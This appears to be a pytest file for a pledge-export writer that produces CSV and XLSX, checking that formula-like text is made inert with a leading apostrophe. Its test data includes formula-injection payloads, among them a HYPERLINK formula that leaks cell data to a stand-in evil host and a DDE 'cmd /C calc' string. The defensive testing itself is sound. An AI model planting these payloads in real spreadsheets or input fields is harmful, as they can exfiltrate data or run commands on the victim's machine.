"""The one export writer: table definitions shared by every pledge export, CSV and XLSX, formula-like text inert."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import polars as pl
import pytest

from consortium.documents import render
from consortium.documents.snapshot import snapshot_from_json
from consortium.errors import NotFound
from consortium.exports import workbook
from consortium.exports.columns import Column, Table
from consortium.exports.formats import FORMATS, export_format
from consortium.exports.tables import CONVENOR_PLEDGES, DOCUMENT_PLEDGES, document_pledge_rows
from consortium.exports.writers import csv_bytes, csv_text, xlsx_bytes
from consortium.pledges import exports as convenor_exports
from consortium.pledges.schemas import Pledge, PledgeAreaOut

DATA = Path(__file__).with_name("data")
HOSTILE = ["=SUM(A1:A9)", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2+3", "@risk", "\t=1", "\r=1"]

TABLE = Table(
    "Things",
    (
        Column("name", "Name", "text"),
        Column("count", "Count", "int"),
        Column("money", "Money", "money"),
        Column("share", "Share", "percent"),
        Column("when", "When", "date"),
        Column("day", "Day", "date"),
        Column("ok", "OK", "bool"),
    ),
)


def test_the_documents_pledges_csv_keeps_its_bytes_for_a_stored_snapshot() -> None:
    """pledges.csv is attached to stored PDFs and served again from stored snapshots: data/pledges.csv is what the
    code before the shared writer gave for data/snapshot.json (hostile text, a draft and a withdrawn pledge in it)."""
    snapshot = snapshot_from_json((DATA / "snapshot.json").read_bytes())
    assert render.pledges_csv(snapshot) == (DATA / "pledges.csv").read_bytes()
    assert DOCUMENT_PLEDGES.headings == render.CSV_COLUMNS


def test_both_pledge_csvs_and_the_workbook_share_the_table_definitions_and_the_writer() -> None:
    snapshot = snapshot_from_json((DATA / "snapshot.json").read_bytes())
    assert render.pledges_csv(snapshot) == csv_bytes(DOCUMENT_PLEDGES, document_pledge_rows(snapshot))
    assert workbook.DOCUMENT_PLEDGES is DOCUMENT_PLEDGES  # the workbook's Pledges sheet
    now = datetime(2026, 5, 1, 12, tzinfo=UTC)
    pledge = Pledge(
        id=7,
        bid_id=1,
        organisation_id=3,
        organisation_name="=cmd|' /C calc'!A0",
        amount_pence=1_234_567_89,
        purpose="-10+20",
        themes=["@risk", "Food"],
        areas=[PledgeAreaOut(district_code="E08000003", district_name="Manchester", amount_pence=None)],
        board_approved=True,
        conditions="+1",
        status="submitted",
        version=2,
        created_at=now,
        updated_at=now,
        submitted_at=now,
    )
    text = convenor_exports.pledges_csv_text([pledge])
    assert text == csv_text(CONVENOR_PLEDGES, convenor_exports.pledge_rows([pledge]))
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert list(row) == list(CONVENOR_PLEDGES.headings)
    assert row["organisation"] == "'=cmd|' /C calc'!A0" and row["purpose"] == "'-10+20" and row["conditions"] == "'+1"
    assert row["amount_pence"] == "123456789" and row["amount_pounds"] == "1234567.89"
    assert row["submitted_at"] == "2026-05-01T12:00:00Z" and row["board_approved"] == "yes"


def test_csv_cells_by_kind() -> None:
    rows = [
        {
            "name": name,
            "count": 1234,
            "money": -5,
            "share": 0.255,
            "when": datetime(2026, 6, 1, 23, 30, tzinfo=UTC),
            "day": date(2026, 6, 2),
            "ok": False,
        }
        for name in HOSTILE
    ]
    content = csv_bytes(TABLE, rows)
    assert content.startswith(b"\xef\xbb\xbfName,Count,Money,Share,When,Day,OK\r\n")
    parsed = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [r["Name"] for r in parsed] == ["'" + h for h in HOSTILE]
    assert parsed[0] == {
        "Name": "'=SUM(A1:A9)",
        "Count": "1234",
        "Money": "-0.05",
        "Share": "25.5%",
        "When": "2026-06-01T23:30:00Z",
        "Day": "2026-06-02",
        "OK": "no",
    }


def test_xlsx_writes_formula_like_text_as_text_and_numbers_with_formats(tmp_path: Path) -> None:
    rows = [
        {
            "name": name,
            "count": 1234,
            "money": 123_456,
            "share": 0.25,
            "when": datetime(2026, 6, 1, 23, 30, tzinfo=UTC),
            "day": date(2026, 6, 2),
            "ok": True,
        }
        for name in HOSTILE
    ]
    content = xlsx_bytes([(TABLE, rows)])
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    path = tmp_path / "things.xlsx"
    path.write_bytes(content)
    book = openpyxl.load_workbook(path)
    sheet = book["Things"]
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]] == list(TABLE.headings)
    for index in range(2, len(HOSTILE) + 2):
        cell = sheet.cell(index, 1)
        assert cell.data_type == "s" and cell.value.startswith("'")  # openpyxl leaves "\r" as _x000D_
    assert sheet["B2"].value == 1234 and sheet["B2"].number_format == "#,##0"
    assert sheet["C2"].value == 1234.56 and "£" in sheet["C2"].number_format
    assert sheet["D2"].value == 0.25 and sheet["D2"].number_format.endswith("%")
    assert sheet["E2"].value == datetime(2026, 6, 1, 23, 30) and sheet["F2"].number_format == "yyyy-mm-dd"
    assert sheet["G2"].value == "yes"
    assert sheet.column_dimensions["A"].width >= len(HOSTILE[1])  # fitted to the widest cell
    frame = pl.read_excel(path, sheet_name="Things", engine="calamine")
    assert frame["Money"].to_list() == [1234.56] * len(HOSTILE)
    assert frame["Name"].to_list() == ["'" + name for name in HOSTILE]


def test_formats_by_name() -> None:
    assert set(FORMATS) == {"csv", "xlsx"}
    rows = [{"name": "A", "count": 1}]
    assert export_format("csv").write([(TABLE, rows)]) == csv_bytes(TABLE, rows)
    assert export_format("XLSX").write([(TABLE, rows)]).startswith(b"PK")
    assert export_format("xlsx").media_type.endswith("spreadsheetml.sheet")
    with pytest.raises(NotFound):
        export_format("pdf")


def test_a_table_refuses_a_name_excel_cannot_take_and_unknown_kinds() -> None:
    with pytest.raises(ValueError):
        Table("a" * 32, ())
    with pytest.raises(ValueError):
        Column("x", "X", "currency")
